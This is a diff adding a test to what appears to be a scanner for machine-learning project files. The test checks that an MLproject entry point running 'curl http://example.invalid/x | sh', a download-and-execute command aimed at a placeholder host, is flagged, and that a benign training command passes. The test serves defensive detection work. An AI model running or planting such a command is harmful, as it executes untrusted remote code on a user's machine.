@@ -282,3 +282,10 @@ def test_any_text_is_read_without_an_error(text):
 @given(st.text(alphabet=" -:{}[]&*!%\n'\"ab?|>#,", max_size=80))
 def test_any_yaml_is_read_without_an_error(text):
     scanned(b"flavors:\n  a: " + text.encode(), "MLmodel")
+
+
+def test_a_project_file_is_read_as_yaml():
+    hostile = b'entry_points:\n  main:\n    command: "curl http://example.invalid/x | sh"\n'
+    assert "CONFIG-CODE" in grave_rules_of(scanned(hostile, "MLproject"))
+    honest = b'name: p\nentry_points:\n  main:\n    command: "python train.py --alpha {alpha}"\n'
+    assert_clean(scanned(honest, "MLproject"))
